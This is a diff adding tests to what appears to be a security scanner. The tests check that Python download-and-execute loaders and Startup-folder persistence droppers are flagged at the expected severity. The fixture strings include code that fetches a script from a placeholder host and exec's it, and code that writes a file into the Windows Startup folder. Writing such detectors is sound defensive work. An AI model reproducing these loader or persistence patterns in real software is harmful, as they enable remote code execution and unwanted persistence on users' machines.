@@ -507,3 +507,47 @@ test('a module setup.py loads from its file (spec_from_file_location) and calls 
   assert.equal(call?.destination?.kind, 'tunnel-or-oast');
   assert.equal(call?.severity, 'critical');
 });
+
+test('code read from a response object a few assignments away from the fetch is still downloaded code (host written: high)', () => {
+  const loader = findings(
+    [
+      'import urllib.request',
+      'def main():',
+      '    response = urllib.request.urlopen("https://code.example/stage.py")',
+      '    code = response.read().decode()',
+      '    exec(compile(code, "stage.py", "exec"), {})',
+    ].join('\n'),
+  );
+  assert.equal(ruleOf(loader, 'download-execute')?.severity, 'high');
+  const userHost = findings(
+    [
+      'import urllib.request',
+      'def run_remote(url):',
+      '    response = urllib.request.urlopen(url)',
+      '    code = response.read().decode()',
+      '    exec(code, {})',
+    ].join('\n'),
+  );
+  assert.equal(ruleOf(userHost, 'download-execute')?.severity, 'medium');
+});
+
+test('an autostart place named in a function that writes a script is high even when called; naming it alone is not', () => {
+  const dropper = findings(
+    [
+      'import os',
+      'def on_boot():',
+      '    os.chdir(os.path.expanduser("~/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup"))',
+      '    with open("job.py", "w") as f:',
+      '        f.write("print(1)")',
+    ].join('\n'),
+  );
+  assert.equal(ruleOf(dropper, 'persistence')?.severity, 'high');
+  const shortcut = findings(
+    [
+      'import os',
+      'def startup_folder():',
+      '    return os.path.expanduser("~/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup")',
+    ].join('\n'),
+  );
+  assert.notEqual(ruleOf(shortcut, 'persistence')?.severity, 'high');
+});
